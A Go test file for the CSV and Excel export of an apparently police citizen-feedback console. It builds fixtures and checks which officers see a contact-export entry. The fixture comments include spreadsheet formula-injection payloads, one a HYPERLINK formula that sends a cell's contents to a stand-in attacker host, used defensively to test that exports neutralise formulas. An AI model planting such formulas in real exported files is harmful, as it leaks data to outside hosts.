package export_test

import (
	"bytes"
	"encoding/csv"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pocketbase/pocketbase/core"
	"github.com/pocketbase/pocketbase/tests"
	"github.com/xuri/excelize/v2"

	"anubhav/console"
	"anubhav/export"
	"anubhav/schema"
	"anubhav/testkit/testapp"
)

// world is the fixture with a few more items: over several days, with answers, flags, a
// contact without consent, and comments that a spreadsheet would take for formulas.
type world struct {
	app *tests.TestApp
	f   *testapp.Fixture
	// formulas are the comments that must come out as text
	formulas []string
}

func newWorld(t *testing.T) *world {
	t.Helper()
	app, f := testapp.New(t)
	w := &world{app: app, f: f, formulas: []string{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+1", "-2", "@SUM(A1:A9)", "\tTAB", "=1+1"}}
	now := time.Now().UTC()
	answers := map[string]any{"purpose": "application", "staff_available": "yes", "behaviour": 4}
	for i, comment := range append(slices.Clone(w.formulas), "बहुत अच्छा व्यवहार", "रिश्वत माँगी गई", "ordinary words") {
		station := []string{"st-a", "st-b", "st-c", "st-d"}[i%4]
		kind := []string{schema.KindExperience, schema.KindExperience, schema.KindComplaint}[i%3]
		rating := 0
		if kind == schema.KindExperience {
			rating = 1 + i%5
		}
		item := testapp.Item(t, app, f.Stations[station], kind, rating, schema.ChannelQR, now.Add(-time.Duration(i)*26*time.Hour), answers)
		item.Set("comment", comment)
		if err := app.Save(item); err != nil {
			t.Fatal(err)
		}
		if i == 1 { // a contact the citizen did not agree to share
			w.save(t, schema.Contacts, map[string]any{"feedback": item.Id, "name": "Not consented", "mobile": "9000000001", "consent": false})
		}
	}
	return w
}

func (w *world) save(t *testing.T, collection string, data map[string]any) *core.Record {
	t.Helper()
	col, err := w.app.FindCollectionByNameOrId(collection)
	if err != nil {
		t.Fatal(err)
	}
	r := core.NewRecord(col)
	r.Load(data)
	if err := w.app.Save(r); err != nil {
		t.Fatal(err)
	}
	return r
}

func (w *world) officer(t *testing.T, email string) *core.Record {
	t.Helper()
	o, err := w.app.FindAuthRecordByEmail(schema.Officers, email)
	if err != nil {
		t.Fatal(err)
	}
	return o
}

// csvOf is the officer's CSV export for a query, as rows of cells (header first).
func (w *world) csvOf(t *testing.T, email, query string) [][]string {
	t.Helper()
	o := w.officer(t, email)
	r := w.request(t, o, query, export.FormatCSV)
	var out bytes.Buffer
	if err := export.CSV(w.app, o, r, &out, func() {}); err != nil {
		t.Fatal(err)
	}
	body, ok := strings.CutPrefix(out.String(), "\ufeff")
	if !ok {
		t.Fatalf("no byte order mark: Excel would not read the file as UTF-8")
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// xlsxOf is the officer's workbook for a query, opened.
func (w *world) xlsxOf(t *testing.T, email, query string, opts ...excelize.Options) *excelize.File {
	t.Helper()
	o := w.officer(t, email)
	file, err := export.XLSX(w.app, o, w.request(t, o, query, export.FormatXLSX), t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer os.Remove(file.Name())
	defer file.Close()
	x, err := excelize.OpenReader(file, opts...)
	if err != nil {
		t.Fatal(err)
	}
	return x
}

func (w *world) request(t *testing.T, o *core.Record, query, format string) export.Request {
	t.Helper()
	q, err := url.ParseQuery(query)
	if err != nil {
		t.Fatal(err)
	}
	r, err := export.Parse(o, q, format)
	if err != nil {
		t.Fatalf("%s: %v", query, err)
	}
	return r
}

// inboxRefs pages through the officer's inbox under a query, as the console does, and
// returns the references in its order.
func (w *world) inboxRefs(t *testing.T, email, query string) []string {
	t.Helper()
	q, _ := url.ParseQuery(query)
	f, err := console.ParseFilter(q, "en")
	if err != nil {
		t.Fatal(err)
	}
	f.Limit = 2 // several pages
	var refs []string
	for {
		page, err := console.List(w.app, w.officer(t, email), f)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range page.Items {
			refs = append(refs, r.Ref)
		}
		if page.Next == "" {
			return refs
		}
		f.After = page.Next
	}
}

func column(rows [][]string, label string) int { return slices.Index(rows[0], label) }

func refsOf(rows [][]string) []string {
	var refs []string
	for _, r := range rows[1:] {
		refs = append(refs, r[0])
	}
	return refs
}

// trimEnd drops a row's trailing empty cells (the workbook has none).
func trimEnd(r []string) []string {
	for len(r) > 0 && r[len(r)-1] == "" {
		r = r[:len(r)-1]
	}
	return r
}

// The follow-up that a contact was exported shows on the thread to those who see contacts
// only: to anyone else it would tell that the citizen left one.
func TestOnlyThoseWhoSeeContactsSeeTheirExport(t *testing.T) {
	w := newWorld(t)
	w.csvOf(t, testapp.SP, "contacts=1&station="+w.f.Stations["st-a"])
	for who, want := range map[string]bool{testapp.SP: true, testapp.SDO: true, testapp.StationA: false, testapp.IG: false} {
		d, err := console.Item(w.app, w.officer(t, who), w.f.Items["a-exp"])
		if err != nil {
			t.Fatal(err)
		}
		got := slices.ContainsFunc(d.Thread, func(e console.Entry) bool { return e.Action == schema.ActionExport })
		if got != want {
			t.Errorf("%s sees the export on the thread: %v, want %v", who, got, want)
		}
	}
}
